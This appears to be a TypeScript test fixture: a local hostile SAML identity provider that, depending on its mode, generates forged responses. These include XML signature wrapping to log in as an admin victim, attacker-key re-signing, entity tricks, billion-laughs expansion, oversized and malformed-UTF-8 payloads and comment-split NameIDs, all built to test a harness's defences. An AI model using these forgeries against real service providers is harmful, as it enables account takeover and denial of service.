/**
 * A small SAML IdP for the harness self-safety tests, independent of the reference IdP: metadata with
 * HTTP-Redirect and HTTP-POST SingleSignOnService, an HTTP-Redirect SingleLogoutService, and the idp-acme signing certificate, accepts
 * AuthnRequests from any Issuer, shows a username/password form, and after the login posts a signed
 * Response (Response and Assertion signed, rsa-sha256, sha256, exc-c14n, Reference "#ID") to the
 * request's AssertionConsumerServiceURL.
 *
 * With a hostile `mode`, the Response it sends after the login is an attack on the harness (attack
 * catalogue §1, §3, §5). `honest` is the control: everything conformant.
 *
 * Like the reference IdP, every element is written directly in Exclusive XML Canonicalization form
 * (sorted attributes, explicit end tags, c14n escaping, each namespace declared where exc-c14n renders
 * it), so the canonical octets of an element are its own text and signing needs no DOM round trip.
 */
import http from 'node:http';
import * as crypto from 'node:crypto';
import * as zlib from 'node:zlib';
import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import type { AddressInfo, Socket } from 'node:net';
import { DOMParser, type Element } from '@xmldom/xmldom';

export const HOSTILE_MODES = [
  'honest',
  'xsw-other-user',
  'xsw-wrapped-response',
  'attacker-key',
  'doctype',
  'entity-expansion',
  'huge-response',
  'never-answers',
  'invalid-utf8',
  'comment-split-nameid',
] as const;
export type HostileMode = (typeof HOSTILE_MODES)[number];

export interface HostileIdp {
  baseUrl: string;
  metadataUrl: string;
  entityId: string;
  /** What the IdP saw and did (AuthnRequests, accepted logins, Responses sent, logins left hanging). */
  readonly stats: { authnRequests: number; logins: number; responses: number; hung: number };
  close(): Promise<void>;
}

export interface HostileIdpOptions {
  /** huge-response: length of the SAMLResponse form value (default HUGE_SAMLRESPONSE_BYTES, 20 MB). */
  hugeResponseBytes?: number;
  /** Liveness: after this many requests the IdP dies (listener closed, every socket cut: refused). */
  dieAfterRequests?: number;
  /** Liveness: after this many accepted logins every request (metadata included) hangs forever. */
  hangAfterLogins?: number;
  /** Setup mistakes: what GET /metadata serves instead of the metadata. */
  metadataAs?: 'html' | 'no-idp-descriptor' | 'no-signing-key' | 'not-found';
  /** Setup mistakes: every AuthnRequest gets the IdP's error page for an unknown Issuer (HTTP 403). */
  unknownIssuer?: boolean;
  /** Setup mistakes: the login ends in an error Response with this second-level status and a message. */
  errorStatusAfterLogin?: string;
  /** Setup mistakes: Response and Assertion times are shifted by this much (a clock off by hours). */
  clockOffsetMs?: number;
}

export const USER = { username: 'alice', password: 'alice-pass', email: 'alice@example.com' };
export const VICTIM = 'admin@example.com';
/** The attacker's own account in comment-split-nameid: the IdP signs this, the comment cuts it. */
export const COMMENT_SPLIT_SIGNED = `${VICTIM}.evil.test`;
export const HUGE_SAMLRESPONSE_BYTES = 20 * 1024 * 1024;

const NS = {
  samlp: 'urn:oasis:names:tc:SAML:2.0:protocol',
  saml: 'urn:oasis:names:tc:SAML:2.0:assertion',
  ds: 'http://www.w3.org/2000/09/xmldsig#',
  md: 'urn:oasis:names:tc:SAML:2.0:metadata',
};
const ALG = {
  rsaSha256: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
  sha256: 'http://www.w3.org/2001/04/xmlenc#sha256',
  excC14n: 'http://www.w3.org/2001/10/xml-exc-c14n#',
  enveloped: 'http://www.w3.org/2000/09/xmldsig#enveloped-signature',
};
const BINDING = {
  redirect: 'urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect',
  post: 'urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST',
};
const NAMEID_EMAIL = 'urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress';
const NAMEID_PERSISTENT = 'urn:oasis:names:tc:SAML:2.0:nameid-format:persistent';
const NAMEID_TRANSIENT = 'urn:oasis:names:tc:SAML:2.0:nameid-format:transient';
const NAMEID_UNSPECIFIED = 'urn:oasis:names:tc:SAML:1.1:nameid-format:unspecified';
const BEARER = 'urn:oasis:names:tc:SAML:2.0:cm:bearer';
const STATUS = 'urn:oasis:names:tc:SAML:2.0:status:';
const PASSWORD_CLASS = 'urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport';
const MAX_REQUEST_BYTES = 1024 * 1024;

interface Key {
  privateKey: crypto.KeyObject;
  certBase64: string;
}

/** The repository's fixtures/keys, found from this file's folder (test/hostile or dist/test/hostile). */
function keysDir(): string {
  for (let dir = __dirname; ; dir = path.dirname(dir)) {
    const p = path.join(dir, 'fixtures', 'keys');
    if (existsSync(path.join(p, 'idp-acme.key.pem'))) return p;
    if (path.dirname(dir) === dir) throw new Error('hostile-idp: fixtures/keys not found above ' + __dirname);
  }
}

function loadKey(name: string): Key {
  const dir = keysDir();
  const certPem = readFileSync(path.join(dir, `${name}.cert.pem`), 'utf8');
  const m = /-----BEGIN CERTIFICATE-----([\s\S]*?)-----END CERTIFICATE-----/.exec(certPem);
  if (!m) throw new Error(`hostile-idp: no certificate in ${name}.cert.pem`);
  return {
    privateKey: crypto.createPrivateKey(readFileSync(path.join(dir, `${name}.key.pem`), 'utf8')),
    certBase64: (m[1] ?? '').replace(/\s+/g, ''),
  };
}

// ---------------------------------------------------------------------------------------------------
// Canonical XML writing and signing

function c14nText(s: string): string {
  return s.replace(/[&<>\r]/g, (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '\r': '&#xD;' })[c] ?? c);
}

function c14nAttr(s: string): string {
  return s.replace(
    /[&<"\t\n\r]/g,
    (c) =>
      ({ '&': '&amp;', '<': '&lt;', '"': '&quot;', '\t': '&#x9;', '\n': '&#xA;', '\r': '&#xD;' })[c] ?? c,
  );
}

function html(s: string): string {
  return s.replace(
    /[&<>"']/g,
    (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;' })[c] ?? c,
  );
}

/** The enveloped ds:Signature over `element` (canonical text of the element whose ID is `id`). */
function signatureFor(element: string, id: string, key: Key): string {
  const digest = crypto.createHash('sha256').update(element, 'utf8').digest('base64');
  const body =
    `<ds:CanonicalizationMethod Algorithm="${ALG.excC14n}"></ds:CanonicalizationMethod>` +
    `<ds:SignatureMethod Algorithm="${ALG.rsaSha256}"></ds:SignatureMethod>` +
    `<ds:Reference URI="#${c14nAttr(id)}"><ds:Transforms>` +
    `<ds:Transform Algorithm="${ALG.enveloped}"></ds:Transform>` +
    `<ds:Transform Algorithm="${ALG.excC14n}"></ds:Transform></ds:Transforms>` +
    `<ds:DigestMethod Algorithm="${ALG.sha256}"></ds:DigestMethod><ds:DigestValue>${digest}</ds:DigestValue>` +
    `</ds:Reference>`;
  // SignedInfo is canonicalized as its own apex, so it carries the ds declaration there.
  const canonicalSignedInfo = `<ds:SignedInfo xmlns:ds="${NS.ds}">${body}</ds:SignedInfo>`;
  const value = crypto
    .sign('sha256', Buffer.from(canonicalSignedInfo, 'utf8'), key.privateKey)
    .toString('base64');
  return (
    `<ds:Signature xmlns:ds="${NS.ds}"><ds:SignedInfo>${body}</ds:SignedInfo>` +
    `<ds:SignatureValue>${value}</ds:SignatureValue>` +
    `<ds:KeyInfo><ds:X509Data><ds:X509Certificate>${key.certBase64}</ds:X509Certificate></ds:X509Data></ds:KeyInfo>` +
    `</ds:Signature>`
  );
}

/** Puts `inserted` right after the first </saml:Issuer> of `element` (the schema position of ds:Signature). */
function afterIssuer(element: string, inserted: string): string {
  const at = element.indexOf('</saml:Issuer>');
  if (at < 0) throw new Error('hostile-idp: no saml:Issuer');
  const cut = at + '</saml:Issuer>'.length;
  return element.slice(0, cut) + inserted + element.slice(cut);
}

function sign(element: string, id: string, key: Key): string {
  return afterIssuer(element, signatureFor(element, id, key));
}

function newId(): string {
  return `_${crypto.randomBytes(20).toString('hex')}`;
}

function instant(ms: number): string {
  return new Date(ms).toISOString();
}

// ---------------------------------------------------------------------------------------------------
// Messages

interface Pending {
  requestId: string;
  acs: string;
  spEntityId: string;
  relayState?: string;
  nameIdFormat?: string;
  isPassive: boolean;
}

interface Subject {
  nameId: string;
  format: string;
}

class Messages {
  constructor(
    readonly entityId: string,
    private readonly key: Key,
  ) {}

  status(top: string, second?: string): string {
    const inner = second ? `<samlp:StatusCode Value="${STATUS}${second}"></samlp:StatusCode>` : '';
    return `<samlp:Status><samlp:StatusCode Value="${STATUS}${top}">${inner}</samlp:StatusCode></samlp:Status>`;
  }

  envelope(id: string, p: Pending, now: number, status: string, body: string): string {
    return (
      `<samlp:Response xmlns:samlp="${NS.samlp}" Destination="${c14nAttr(p.acs)}" ID="${id}"` +
      ` InResponseTo="${c14nAttr(p.requestId)}" IssueInstant="${instant(now)}" Version="2.0">` +
      `<saml:Issuer xmlns:saml="${NS.saml}">${c14nText(this.entityId)}</saml:Issuer>${status}${body}</samlp:Response>`
    );
  }

  assertion(id: string, p: Pending, now: number, s: Subject): string {
    const expiry = instant(now + 5 * 60_000);
    return (
      `<saml:Assertion xmlns:saml="${NS.saml}" ID="${id}" IssueInstant="${instant(now)}" Version="2.0">` +
      `<saml:Issuer>${c14nText(this.entityId)}</saml:Issuer>` +
      `<saml:Subject><saml:NameID Format="${c14nAttr(s.format)}">${c14nText(s.nameId)}</saml:NameID>` +
      `<saml:SubjectConfirmation Method="${BEARER}"><saml:SubjectConfirmationData` +
      ` InResponseTo="${c14nAttr(p.requestId)}" NotOnOrAfter="${expiry}" Recipient="${c14nAttr(p.acs)}">` +
      `</saml:SubjectConfirmationData></saml:SubjectConfirmation></saml:Subject>` +
      `<saml:Conditions NotBefore="${instant(now - 60_000)}" NotOnOrAfter="${expiry}">` +
      `<saml:AudienceRestriction><saml:Audience>${c14nText(p.spEntityId)}</saml:Audience>` +
      `</saml:AudienceRestriction></saml:Conditions>` +
      `<saml:AuthnStatement AuthnInstant="${instant(now)}" SessionIndex="${newId()}">` +
      `<saml:AuthnContext><saml:AuthnContextClassRef>${PASSWORD_CLASS}</saml:AuthnContextClassRef>` +
      `</saml:AuthnContext></saml:AuthnStatement>` +
      `<saml:AttributeStatement>` +
      attribute('urn:oid:0.9.2342.19200300.100.1.3', 'mail', [s.nameId]) +
      attribute('urn:oid:1.3.6.1.4.1.5923.1.1.1.1', 'eduPersonAffiliation', ['member', 'staff']) +
      `</saml:AttributeStatement></saml:Assertion>`
    );
  }

  /** Shifts every time the IdP writes (clockOffsetMs). */
  clockOffsetMs = 0;

  /** The conformant Response: Assertion signed, then the Response. */
  signedResponse(p: Pending, s: Subject, key: Key = this.key): string {
    const now = Date.now() + this.clockOffsetMs;
    const aid = newId();
    const rid = newId();
    const a = sign(this.assertion(aid, p, now, s), aid, key);
    return sign(this.envelope(rid, p, now, this.status('Success'), a), rid, key);
  }

  errorResponse(p: Pending, second: string, message?: string): string {
    const rid = newId();
    let status = this.status('Responder', second);
    if (message)
      status = status.replace(
        '</samlp:Status>',
        `<samlp:StatusMessage>${c14nText(message)}</samlp:StatusMessage></samlp:Status>`,
      );
    return sign(this.envelope(rid, p, Date.now(), status, ''), rid, this.key);
  }

  /**
   * XSW3 ([SR] XSW3, catalogue X-03): an unsigned Response holding an evil unsigned Assertion for the
   * victim first (where `/Response/Assertion[1]` and `//NameID[1]` read), then the genuine signed one.
   */
  xsw3(p: Pending, genuine: Subject): string {
    const now = Date.now();
    const aid = newId();
    const real = sign(this.assertion(aid, p, now, genuine), aid, this.key);
    const evil = this.assertion(newId(), p, now, { nameId: VICTIM, format: genuine.format });
    return this.envelope(newId(), p, now, this.status('Success'), evil + real);
  }

  /**
   * XSW1 ([SR] XSW1, catalogue X-01): a new root Response (new ID, evil unsigned Assertion for the victim)
   * whose ds:Signature is the genuine Response signature, with the genuine Response (its own Signature
   * removed, its signed Assertion kept) as the Signature's last child. The genuine digest still matches.
   */
  xsw1(p: Pending, genuine: Subject): string {
    const now = Date.now();
    const aid = newId();
    const origId = newId();
    const real = sign(this.assertion(aid, p, now, genuine), aid, this.key);
    const original = this.envelope(origId, p, now, this.status('Success'), real);
    const sig = signatureFor(original, origId, this.key);
    const end = sig.lastIndexOf('</ds:Signature>');
    const wrapped = `${sig.slice(0, end)}${original}${sig.slice(end)}`;
    const evil = this.assertion(newId(), p, now, { nameId: VICTIM, format: genuine.format });
    return afterIssuer(this.envelope(newId(), p, now, this.status('Success'), evil), wrapped);
  }
}

function attribute(name: string, friendly: string, values: string[]): string {
  return (
    `<saml:Attribute FriendlyName="${c14nAttr(friendly)}" Name="${c14nAttr(name)}"` +
    ` NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:uri">` +
    values.map((v) => `<saml:AttributeValue>${c14nText(v)}</saml:AttributeValue>`).join('') +
    `</saml:Attribute>`
  );
}

/** Replaces the (single) NameID text `value` in the XML text. */
function replaceNameId(xml: string, value: string, replacement: string): string {
  const from = `>${c14nText(value)}</saml:NameID>`;
  if (!xml.includes(from)) throw new Error('hostile-idp: NameID not found');
  return xml.replace(from, () => `>${replacement}</saml:NameID>`);
}

const b64 = (s: string | Buffer) => (typeof s === 'string' ? Buffer.from(s, 'utf8') : s).toString('base64');

/** The SAMLResponse field value (base64) the given mode sends after a successful login. */
function hostileSamlResponse(
  mode: HostileMode,
  m: Messages,
  p: Pending,
  subject: Subject,
  o: HostileIdpOptions,
): string {
  switch (mode) {
    case 'honest':
    case 'never-answers':
      return b64(m.signedResponse(p, subject));
    case 'xsw-other-user':
      return b64(m.xsw3(p, subject));
    case 'xsw-wrapped-response':
      return b64(m.xsw1(p, subject));
    case 'attacker-key':
      // The attacker edits the subject to the victim and re-signs with its own key, cert in KeyInfo.
      return b64(m.signedResponse(p, { ...subject, nameId: VICTIM }, loadKey('attacker')));
    case 'doctype': {
      // Signed over the expanded value: a parser that expands the entity sees a valid signature for admin.
      const xml = m.signedResponse(p, { ...subject, nameId: VICTIM });
      const doctype = `<!DOCTYPE samlp:Response [\n<!ENTITY who "${VICTIM}">\n]>\n`;
      return b64(`<?xml version="1.0" encoding="UTF-8"?>\n${doctype}${replaceNameId(xml, VICTIM, '&who;')}`);
    }
    case 'entity-expansion': {
      // Billion laughs: 10 levels of 10 references, 10^9 "lol" when expanded (about 3 GB).
      const levels = ['<!ENTITY lol0 "lol">'];
      for (let i = 1; i <= 9; i++) levels.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
      const xml = replaceNameId(m.signedResponse(p, subject), subject.nameId, '&lol9;');
      return b64(
        `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE samlp:Response [\n${levels.join('\n')}\n]>\n${xml}`,
      );
    }
    case 'huge-response': {
      // A genuine signed Response followed by a comment after the root, padded so that the base64 value
      // is 20 MB: the signature still verifies, so only a size bound stops it.
      const xml = m.signedResponse(p, subject);
      const size = o.hugeResponseBytes ?? HUGE_SAMLRESPONSE_BYTES;
      const padBytes = Math.ceil((size * 3) / 4) - Buffer.byteLength(xml) - 8;
      return b64(`${xml}<!--${'x'.repeat(Math.max(0, padBytes))}-->`);
    }
    case 'invalid-utf8': {
      // The NameID holds C0 AF (an overlong "/"): invalid UTF-8. A lenient decoder turns it into two
      // U+FFFD, which is exactly the text that was signed, so only a strict decoder rejects it.
      const lenient = `${subject.nameId}\uFFFD\uFFFD`;
      const xml = Buffer.from(m.signedResponse(p, { ...subject, nameId: lenient }), 'utf8');
      const marker = Buffer.from('\uFFFD\uFFFD', 'utf8');
      const at = xml.indexOf(marker);
      if (at < 0) throw new Error('hostile-idp: invalid-utf8 marker not found');
      const bytes = Buffer.concat([
        xml.subarray(0, at),
        Buffer.from([0xc0, 0xaf]),
        xml.subarray(at + marker.length),
      ]);
      if (bytes.toString('utf8') !== xml.toString('utf8'))
        throw new Error('hostile-idp: lenient decode differs');
      return b64(bytes);
    }
    case 'comment-split-nameid': {
      // The IdP signs the attacker's own account; the comment makes first-text-node readers see the victim.
      // Exc-c14n without comments drops it, so both signatures still verify.
      const xml = m.signedResponse(p, { ...subject, nameId: COMMENT_SPLIT_SIGNED });
      return b64(replaceNameId(xml, COMMENT_SPLIT_SIGNED, `${VICTIM}<!---->.evil.test`));
    }
  }
}

function metadata(entityId: string, ssoUrl: string, key: Key): string {
  return (
    `<?xml version="1.0" encoding="UTF-8"?>\n` +
    `<md:EntityDescriptor xmlns:md="${NS.md}" xmlns:ds="${NS.ds}" entityID="${html(entityId)}">\n` +
    `  <md:IDPSSODescriptor protocolSupportEnumeration="${NS.samlp}">\n` +
    `    <md:KeyDescriptor use="signing">\n` +
    `      <ds:KeyInfo><ds:X509Data><ds:X509Certificate>${key.certBase64}</ds:X509Certificate></ds:X509Data></ds:KeyInfo>\n` +
    `    </md:KeyDescriptor>\n` +
    // Listed so the SessionIndex MUST applies (SAMLProf 4.1.4.2: an IdP that supports Single Logout);
    // the self-safety runs never send a LogoutRequest.
    `    <md:SingleLogoutService Binding="${BINDING.redirect}" Location="${html(ssoUrl)}/slo"/>\n` +
    [NAMEID_EMAIL, NAMEID_PERSISTENT, NAMEID_TRANSIENT]
      .map((f) => `    <md:NameIDFormat>${f}</md:NameIDFormat>\n`)
      .join('') +
    `    <md:SingleSignOnService Binding="${BINDING.redirect}" Location="${html(ssoUrl)}"/>\n` +
    `    <md:SingleSignOnService Binding="${BINDING.post}" Location="${html(ssoUrl)}"/>\n` +
    `  </md:IDPSSODescriptor>\n` +
    `</md:EntityDescriptor>\n`
  );
}

// ---------------------------------------------------------------------------------------------------
// HTTP

function page(title: string, body: string): string {
  return `<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>${html(title)}</title></head><body>${body}</body></html>\n`;
}

function loginPage(rid: string, error?: string): string {
  return page(
    'Sign in',
    (error ? `<p>${html(error)}</p>` : '') +
      `<form method="post" action="/login"><input type="hidden" name="rid" value="${html(rid)}">` +
      `<input type="text" name="username"><input type="password" name="password">` +
      `<button type="submit">Sign in</button></form>`,
  );
}

function postPage(acs: string, samlResponse: string, relayState: string | undefined): string {
  return (
    `<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>Continue</title></head><body>` +
    `<form method="post" action="${html(acs)}">` +
    `<input type="hidden" name="SAMLResponse" value="${samlResponse}">` +
    (relayState !== undefined ? `<input type="hidden" name="RelayState" value="${html(relayState)}">` : '') +
    `<noscript><button type="submit">Continue</button></noscript></form>` +
    `<script>document.forms[0].submit()</script></body></html>\n`
  );
}

function readBody(req: http.IncomingMessage): Promise<string> {
  return new Promise((resolve, reject) => {
    const chunks: Buffer[] = [];
    let size = 0;
    req.on('data', (c: Buffer) => {
      size += c.length;
      if (size > MAX_REQUEST_BYTES) {
        reject(new Error('request too large'));
        req.destroy();
        return;
      }
      chunks.push(c);
    });
    req.on('end', () => resolve(Buffer.concat(chunks).toString('utf8')));
    req.on('error', reject);
  });
}

/** Reads the AuthnRequest: ID, ACS URL, Issuer, IsPassive, NameIDPolicy Format. Any Issuer is accepted. */
function parseAuthnRequest(xml: string, relayState: string | undefined): Pending {
  let fatal: string | undefined;
  const doc = new DOMParser({
    onError: (level, msg) => {
      if (level !== 'warning') fatal ??= msg;
    },
  }).parseFromString(xml, 'text/xml');
  const root = doc.documentElement as Element | null;
  if (fatal || !root || root.namespaceURI !== NS.samlp || root.localName !== 'AuthnRequest') {
    throw new Error(`not an AuthnRequest${fatal ? `: ${fatal}` : ''}`);
  }
  const requestId = root.getAttribute('ID');
  const acs = root.getAttribute('AssertionConsumerServiceURL');
  if (!requestId || !acs) throw new Error('AuthnRequest without ID or AssertionConsumerServiceURL');
  const issuer = root.getElementsByTagNameNS(NS.saml, 'Issuer')[0];
  const policy = root.getElementsByTagNameNS(NS.samlp, 'NameIDPolicy')[0];
  return {
    requestId,
    acs,
    spEntityId: (issuer?.textContent ?? '').trim(),
    relayState,
    nameIdFormat: policy?.getAttribute('Format') ?? undefined,
    isPassive: root.getAttribute('IsPassive') === 'true',
  };
}

function subjectFor(p: Pending): Subject {
  const f = p.nameIdFormat;
  if (f === NAMEID_PERSISTENT || f === NAMEID_TRANSIENT) {
    return {
      format: f,
      nameId: `_${crypto.createHash('sha256').update(USER.username).digest('hex').slice(0, 32)}`,
    };
  }
  return { format: f && f !== NAMEID_UNSPECIFIED ? f : NAMEID_EMAIL, nameId: USER.email };
}

/** Starts the IdP on 127.0.0.1 (any free port). */
export async function startHostileIdp(mode: HostileMode, o: HostileIdpOptions = {}): Promise<HostileIdp> {
  if (!HOSTILE_MODES.includes(mode)) throw new Error(`hostile-idp: unknown mode ${String(mode)}`);
  const key = loadKey('idp-acme');
  const sockets = new Set<Socket>();
  const pending = new Map<string, Pending>();
  const stats = { authnRequests: 0, logins: 0, responses: 0, hung: 0 };
  const server = http.createServer();
  server.on('connection', (s: Socket) => {
    sockets.add(s);
    s.on('close', () => sockets.delete(s));
    s.on('error', () => undefined);
  });
  server.on('clientError', (_e, s: Socket) => s.destroy());
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, '127.0.0.1', () => resolve());
  });
  const baseUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const entityId = `${baseUrl}/idp`;
  const ssoUrl = `${baseUrl}/sso`;
  const messages = new Messages(entityId, key);
  messages.clockOffsetMs = o.clockOffsetMs ?? 0;
  let requests = 0;
  let dead = false;
  const die = () => {
    dead = true;
    server.close();
    for (const s of sockets) s.destroy();
  };

  const send = (
    res: http.ServerResponse,
    status: number,
    body: string,
    type = 'text/html; charset=utf-8',
  ) => {
    res.on('error', () => undefined);
    res.writeHead(status, { 'content-type': type, 'cache-control': 'no-store' }).end(body);
  };

  const answerRequest = (res: http.ServerResponse, p: Pending) => {
    stats.authnRequests++;
    if (o.unknownIssuer) {
      send(
        res,
        403,
        page(
          'Error',
          `<h1>Unknown service provider</h1><p>The Issuer ${html(p.spEntityId)} is not registered at this IdP. Ask your administrator to add it.</p>`,
        ),
      );
      return;
    }
    if (p.isPassive) {
      // No IdP sessions here: IsPassive always gets NoPassive (an honest error Response, in every mode).
      send(res, 200, postPage(p.acs, b64(messages.errorResponse(p, 'NoPassive')), p.relayState));
      return;
    }
    const rid = crypto.randomBytes(16).toString('hex');
    pending.set(rid, p);
    send(res, 200, loginPage(rid));
  };

  server.on('request', (req: http.IncomingMessage, res: http.ServerResponse) => {
    if (dead) return void req.socket.destroy();
    if (o.hangAfterLogins !== undefined && stats.logins >= o.hangAfterLogins) {
      stats.hung++;
      return; // never a byte; close() destroys the socket
    }
    requests++;
    if (o.dieAfterRequests !== undefined && requests > o.dieAfterRequests) {
      die();
      return;
    }
    void (async () => {
      const url = new URL(req.url ?? '/', baseUrl);
      try {
        if (req.method === 'GET' && url.pathname === '/metadata') {
          if (o.metadataAs === 'html')
            return send(res, 200, page('Welcome', '<h1>Acme portal</h1><p>Please sign in.</p>'));
          if (o.metadataAs === 'not-found') return send(res, 404, page('Not found', '<p>not found</p>'));
          let md = metadata(entityId, ssoUrl, key);
          if (o.metadataAs === 'no-idp-descriptor')
            md = md.replace(/<md:IDPSSODescriptor[\s\S]*<\/md:IDPSSODescriptor>\n?/, '');
          if (o.metadataAs === 'no-signing-key')
            md = md.replace(/<md:KeyDescriptor[\s\S]*<\/md:KeyDescriptor>\n?/, '');
          send(res, 200, md, 'application/samlmetadata+xml');
        } else if (req.method === 'GET' && url.pathname === '/sso') {
          const raw = url.searchParams.get('SAMLRequest');
          if (!raw) return send(res, 400, page('Error', '<p>no SAMLRequest</p>'));
          const xml = zlib
            .inflateRawSync(Buffer.from(raw, 'base64'), { maxOutputLength: MAX_REQUEST_BYTES })
            .toString('utf8');
          answerRequest(res, parseAuthnRequest(xml, url.searchParams.get('RelayState') ?? undefined));
        } else if (req.method === 'POST' && url.pathname === '/sso') {
          const form = new URLSearchParams(await readBody(req));
          const raw = form.get('SAMLRequest');
          if (!raw) return send(res, 400, page('Error', '<p>no SAMLRequest</p>'));
          const xml = Buffer.from(raw, 'base64').toString('utf8');
          answerRequest(res, parseAuthnRequest(xml, form.get('RelayState') ?? undefined));
        } else if (req.method === 'POST' && url.pathname === '/login') {
          const form = new URLSearchParams(await readBody(req));
          const rid = form.get('rid') ?? '';
          const p = pending.get(rid);
          if (!p) return send(res, 400, page('Error', '<p>unknown or expired login</p>'));
          if (form.get('username') !== USER.username || form.get('password') !== USER.password) {
            return send(res, 200, loginPage(rid, 'Wrong username or password'));
          }
          pending.delete(rid);
          stats.logins++;
          if (mode === 'never-answers') {
            // Keep the socket open and never write a byte; close() destroys it.
            stats.hung++;
            return;
          }
          if (o.errorStatusAfterLogin) {
            const err = b64(
              messages.errorResponse(
                p,
                o.errorStatusAfterLogin,
                'Access to this application is not allowed for alice',
              ),
            );
            return send(res, 200, postPage(p.acs, err, p.relayState));
          }
          const samlResponse = hostileSamlResponse(mode, messages, p, subjectFor(p), o);
          stats.responses++;
          send(res, 200, postPage(p.acs, samlResponse, p.relayState));
        } else {
          send(res, 404, page('Not found', '<p>not found</p>'));
        }
      } catch (e) {
        if (!res.headersSent)
          send(res, 400, page('Error', `<p>${html(String((e as Error).message ?? e))}</p>`));
      }
    })();
  });

  return {
    baseUrl,
    metadataUrl: `${baseUrl}/metadata`,
    entityId,
    stats,
    close: async () => {
      for (const s of sockets) s.destroy();
      server.closeAllConnections();
      if (dead) return;
      await new Promise<void>((r) => server.close(() => r()));
    },
  };
}
